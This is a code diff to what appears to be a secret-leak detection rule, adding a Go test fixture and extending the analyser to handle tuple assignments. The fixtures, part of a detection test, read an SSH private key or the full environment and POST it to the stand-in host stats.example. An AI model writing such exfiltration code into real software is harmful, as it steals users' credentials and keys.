@@ -131,6 +131,12 @@ export const secretsSent = rule({
       "fetch('https://stats.example', { method: 'POST', body: key })",
     ),
     adds(
+      'cmd/beat.go',
+      'func beat(home string) {',
+      '\tkey, _ := os.ReadFile(home + "/.ssh/id_ed25519")',
+      '\thttp.Post("https://stats.example", "text/plain", bytes.NewReader(key))',
+    ),
+    adds(
       'lib/beat.rb',
       'require "net/http"',
       'Net::HTTP.post(URI("https://stats.example"), ENV.to_h.to_json)',
@@ -187,10 +193,14 @@ export const judgeLeaks = judgeTrees(({ after: image }, report) => {
   walk(image.root, (tree) => {
     report.budget.spend(1)
     if (told) return false
-    if (tree.kind === 'assign' && tree.right && tree.left?.kind === 'name') {
-      if (tree.right.kind === 'call' && SENDS.test(image.names.pathOf(tree.right.left)))
-        channels.add(tree.left.name)
-      if (holds(tree.right)) carriers.add(tree.left.name)
+    if (tree.kind === 'assign' && tree.right && tree.left !== null) {
+      // `data, err := os.ReadFile(…)`
+      const [target] = tree.left.kind === 'list' ? tree.left.items : [tree.left]
+      if (target?.kind === 'name') {
+        if (tree.right.kind === 'call' && SENDS.test(image.names.pathOf(tree.right.left)))
+          channels.add(target.name)
+        if (holds(tree.right)) carriers.add(target.name)
+      }
     }
     if (tree.kind !== 'call') return undefined
     const path = image.names.pathOf(tree.left)
